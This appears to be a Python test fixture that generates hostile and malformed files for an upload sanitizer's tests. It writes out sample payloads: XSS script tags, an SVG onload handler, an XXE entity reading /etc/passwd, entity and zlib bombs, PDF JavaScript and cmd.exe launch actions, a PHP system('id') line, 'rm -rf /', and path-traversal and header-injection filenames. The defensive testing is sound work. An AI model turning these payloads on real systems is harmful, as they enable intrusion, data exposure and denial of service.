"""Files that somebody sends to do harm, or that have gone wrong: each made by code. `KEPT` are taken (cleaned), all others are refused."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageCms, PngImagePlugin

from tests.messaging.samples import SECRET_WORD, jpeg, paper, pdf, saved

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = f"<script>alert('{SECRET_WORD}')</script>".encode()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY a%d "&a;&a;">' % n for n in range(50))
    + b"]><l>&a49;</l>"
)
Maker = Callable[[], bytes]


@cache
def of(name: str) -> bytes:
    """One file of the corpus, made once."""
    return (REFUSED.get(name) or KEPT[name])()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, rows: bytes, *, color: int = 2, more: bytes = b"", depth: int = 8) -> bytes:
    """A PNG whose head says whatever we like."""
    head = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + more
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def with_segment(marker: int, data: bytes) -> bytes:
    plain = jpeg()
    return plain[:2] + segment(marker, data) + plain[2:]


def said_size(width: int, height: int) -> bytes:
    """A JPEG that says it is huge."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gps() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = SECRET_WORD
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)
    return jpeg(exif=exif)


def png_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET_WORD)
    info.add_itxt("XML:com.adobe.xmp", SECRET_WORD, zip=True)
    return jpeg(form="PNG", pnginfo=info)


def animated(form: str) -> bytes:
    out = BytesIO()
    frames = [Image.new("RGB", (20, 20), shade) for shade in ("red", "green", "blue")]
    frames[0].save(out, form, save_all=True, append_images=frames[1:])
    return out.getvalue()


def mpo() -> bytes:
    out = BytesIO()
    Image.new("RGB", (20, 20)).save(
        out, "MPO", save_all=True, append_images=[Image.new("RGB", (20, 20), "red")]
    )
    return out.getvalue()


def profile() -> bytes:
    return bytes(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())


def heic(**options: Any) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return jpeg(form="HEIF", size=(64, 64), **options)


def jp2() -> bytes:
    return jpeg(form="JPEG2000")


def bent(do: Callable[[pikepdf.Pdf], None], **options: Any) -> Maker:
    """A PDF that was made worse."""

    def make() -> bytes:
        made = paper()
        do(made)
        return saved(made, **options)

    return make


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{SECRET_WORD}')")


def annotated(annotation: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def do(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = made.make_indirect(Array([annotation]))

    return do


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)


def _set(name: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: made.Root.__setitem__(Name(name), value)


def _page(name: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: made.pages[0].obj.__setitem__(Name(name), value)


def embed(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = SECRET_WORD.encode()


def named_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("x"), script()])))


def form_script(made: pikepdf.Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="a", Rect=[0, 0, 9, 9], AA=Dictionary(K=script())
    )
    field = made.make_indirect(field)
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pikepdf.String(SECRET_WORD), CO=Array([field]))


def told(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = SECRET_WORD
    with made.open_metadata() as meta:
        meta["dc:creator"] = [SECRET_WORD]


def photo_inside(made: pikepdf.Pdf) -> None:
    image = made.make_stream(gps(), Type=Name.XObject, Subtype=Name.Image, Width=40, Height=30, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode)  # fmt: skip
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=image))


def stream_bomb(size: int, times: int = 1) -> Callable[[pikepdf.Pdf], None]:
    def do(made: pikepdf.Pdf) -> None:
        data = bytes(size)
        for _time in range(times):
            data = zlib.compress(data, 1)
        bomb = made.make_stream(b"")
        bomb.write(data, filter=Name.FlateDecode if times == 1 else Array([Name.FlateDecode] * times))
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=bomb))

    return do


def pages(count: int) -> Callable[[pikepdf.Pdf], None]:
    def do(made: pikepdf.Pdf) -> None:
        for _page in range(count - 1):
            made.add_blank_page()

    return do


def nested() -> bytes:
    deep = b"[" * 20_000 + b"]" * 20_000
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + deep)


def circle(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Parent = made.pages[0].obj


def sized(*box: float) -> Maker:
    """A letter that says how large its page is."""
    return bent(lambda made: made.pages[0].obj.__setitem__(Name.MediaBox, Array([*box])))


def drawn_image(data: bytes, kind: str, side: int) -> Maker:
    """A page that shows a picture whose data is not what is said about it."""

    def do(made: pikepdf.Pdf) -> None:
        image = made.make_stream(data, Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name(kind))  # fmt: skip
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=image))
        made.pages[0].Contents = made.make_stream(b"200 0 0 200 0 0 cm /Im Do")

    return bent(do)


def drawn_forever(made: pikepdf.Pdf) -> None:
    """Ten drawings, each of which is drawn ten times by the next, and so on: nothing to unpack, much to draw."""
    last = made.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 200])
    for _level in range(10):
        last = made.make_stream(b"/X Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 200], Resources=Dictionary(XObject=Dictionary(X=last)))  # fmt: skip
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=last))
    made.pages[0].Contents = made.make_stream(b"/X Do")


LAUNCH = Dictionary(S=Name.Launch, F="cmd.exe")
REFUSED: dict[str, Maker] = {
    "empty.jpg": lambda: b"",
    "one-byte.jpg": lambda: b"\xff",
    "start-only.jpg": lambda: b"\xff\xd8\xff",
    "start-only.png": lambda: b"\x89PNG\r\n\x1a\n",
    "start-only.pdf": lambda: b"%PDF-1.7\n",
    "start-only.webp": lambda: b"RIFF\x00\x00\x00\x00WEBP",
    "start-only.heic": lambda: b"\x00\x00\x00\x18ftypheic",
    "page.jpg": lambda: b"<!doctype html>" + SCRIPT,
    "page.pdf": lambda: b"<html><body>%PDF-1.7" + SCRIPT,
    "page-with-head.pdf": lambda: b"%PDF-1.7\n<html>" + SCRIPT + b"</html>",
    "page-with-head.jpg": lambda: b"\xff\xd8\xff<html>" + SCRIPT,
    "svg.png": lambda: SVG,
    "svg.svg": lambda: SVG,
    "entities.svg": lambda: XXE,
    "laughs.xml": lambda: LAUGHS,
    "moving.gif": lambda: animated("GIF"),
    "gif-as.jpg": lambda: jpeg(form="GIF"),
    "gif-script.js": lambda: b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)",
    "bitmap.png": lambda: jpeg(form="BMP"),
    "tiff.jpg": lambda: jpeg(form="TIFF"),
    "icon.png": lambda: jpeg(form="ICO"),
    "photoshop.jpg": lambda: b"8BPS\x00\x01" + bytes(40),
    "postscript.pdf": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
    "jpeg2000.jpg": jp2,
    "avif.heic": lambda: jpeg(form="AVIF"),
    "archive.pdf": lambda: b"PK\x03\x04" + bytes(60),
    "word.docx": lambda: b"PK\x03\x04[Content_Types].xml",
    "program.jpg": lambda: b"MZ" + bytes(100),
    "elf.png": lambda: b"\x7fELF" + bytes(100),
    "script.jpg": lambda: b"#!/bin/sh\nrm -rf /\n",
    "photo.jpg.php": lambda: b"<?php system('id');",
    "eicar.com": lambda: EICAR,
    "truncated.jpg": lambda: jpeg(size=(400, 400))[:-300],
    "truncated.png": lambda: jpeg(form="PNG", size=(400, 400))[:-60],
    "truncated.webp": lambda: jpeg(form="WEBP", size=(400, 400))[:-60],
    "truncated.heic": lambda: heic()[:-120],
    "truncated.pdf": lambda: pdf()[:-200],
    "large.jpg": lambda: jpeg() + bytes(10 * 1024 * 1024 + 1 - len(jpeg())),
    "pixels.jpg": lambda: said_size(65_000, 65_000),
    "pixels.png": lambda: png(60_000, 60_000, b""),
    "just-too-many.png": lambda: png(9_000, 6_000, b""),
    "between-limits.png": lambda: png(10_000, 9_999, b""),
    "unpacked.png": lambda: png(
        20, 20, bytes(10), more=png_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(80 * 1024 * 1024), 9))
    ),
    "text-bomb.png": lambda: png(
        20, 20, bytes(10), more=png_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(80 * 1024 * 1024), 9)) * 3
    ),
    "nothing-wide.png": lambda: png(0, 20, b""),
    "locked.pdf": bent(lambda made: None, encryption=pikepdf.Encryption(owner="a", user="b")),
    "open-but-locked.pdf": bent(lambda made: None, encryption=pikepdf.Encryption(owner="a", user="")),
    "many-pages.pdf": bent(pages(101)),
    "no-page.pdf": lambda: saved(pikepdf.new()),
    "bomb.pdf": bent(stream_bomb(220 * 1024 * 1024)),
    "bomb-in-bomb.pdf": bent(stream_bomb(80 * 1024 * 1024, times=2)),
    "nested.pdf": nested,
    "junk-first.pdf": lambda: b"GIF89a" + pdf(),
    "broken-table.pdf": lambda: pdf().replace(b"startxref", b"startxerf"),
}
KEPT: dict[str, Maker] = {
    "gps.jpg": gps,
    "script-behind.jpg": lambda: jpeg() + SCRIPT,
    "script-behind.png": lambda: jpeg(form="PNG") + SCRIPT,
    "archive-behind.jpg": lambda: jpeg() + b"PK\x03\x04" + SECRET_WORD.encode(),
    "eicar-behind.jpg": lambda: jpeg() + EICAR,
    "pdf-behind.jpg": lambda: jpeg() + pdf(SECRET_WORD),
    "script-in-comment.jpg": lambda: with_segment(0xFE, SCRIPT),
    "script-in-xmp.jpg": lambda: with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT),
    "entities-in-xmp.jpg": lambda: with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + XXE),
    "strange-profile.jpg": lambda: with_segment(0xE2, b"ICC_PROFILE\0\x01\x01" + SECRET_WORD.encode() * 20),
    "text.png": png_text,
    "moving.png": lambda: animated("PNG"),
    "moving.webp": lambda: animated("WEBP"),
    "two-in-one.jpg": mpo,
    "photo.heic": lambda: heic(exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0"),
    "print-colors.jpg": lambda: jpeg(mode="CMYK"),
    "sixteen-bits.png": lambda: jpeg(mode="I;16", form="PNG"),
    "one-bit.png": lambda: jpeg(mode="1", form="PNG"),
    "palette.png": lambda: jpeg(mode="P", form="PNG"),
    "see-through.png": lambda: jpeg(mode="RGBA", form="PNG"),
    "profile.jpg": lambda: jpeg(icc_profile=profile()),
    "wide.webp": lambda: jpeg(form="WEBP", size=(9_000, 20)),
    "open-script.pdf": bent(_set("/OpenAction", script())),
    "named-script.pdf": bent(named_script),
    "page-script.pdf": bent(_page("/AA", Dictionary(O=script()))),
    "launch.pdf": bent(annotated(link(LAUNCH))),
    "opens-by-itself.pdf": bent(_set("/OpenAction", LAUNCH)),
    "web-link.pdf": bent(annotated(link(Dictionary(S=Name.URI, URI=f"http://x.example/{SECRET_WORD}")))),
    "sends-form.pdf": bent(annotated(link(Dictionary(S=Name.SubmitForm, F=f"http://x.example/{SECRET_WORD}")))),
    "other-file.pdf": bent(annotated(link(Dictionary(S=Name.GoToR, F=f"//host/{SECRET_WORD}")))),
    "film.pdf": bent(annotated(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary(X=SECRET_WORD)))),
    "file-inside.pdf": bent(embed),
    "form-script.pdf": bent(form_script),
    "told.pdf": bent(told),
    "photo-inside.pdf": bent(photo_inside),
    "script-behind.pdf": lambda: pdf() + SCRIPT,
    "round-and-round.pdf": bent(circle),
    "huge-page.pdf": sized(0, 0, 1_000_000_000, 1_000_000_000),
    "endless-page.pdf": sized(0, 0, 9 * 10**18, 9 * 10**18),
    "flat-page.pdf": sized(0, 0, 0, 0),
    "backward-page.pdf": sized(200, 200, 0, 0),
    "thin-page.pdf": sized(0, 0, 14_000, 4),
    "blank-page.pdf": bent(lambda made: made.pages[0].obj.__delitem__("/Contents")),
    "photo-says-huge.pdf": drawn_image(said_size(65_000, 65_000), "/DCTDecode", 65_000),
    "photo-is-none.pdf": drawn_image(bytes(range(256)) * 40, "/JPXDecode", 400),
    "fax-is-none.pdf": drawn_image(bytes(range(256)) * 40, "/JBIG2Decode", 40_000),
    "drawn-forever.pdf": bent(drawn_forever),
}  # fmt: skip
NAMES = (
    "photo.jpg.exe", "gpj.\u202eexe.jpg", "nul\0.jpg", "../../etc/passwd", "C:\\x\\y.jpg", "a" * 400 + ".jpg", ".", " .jpg", "<b>.jpg",
    "lone\ud800.jpg", 'quote".jpg\r\nX-Evil: 1', "Müller Überweisung.jpg", "发热.jpg",
)  # fmt: skip
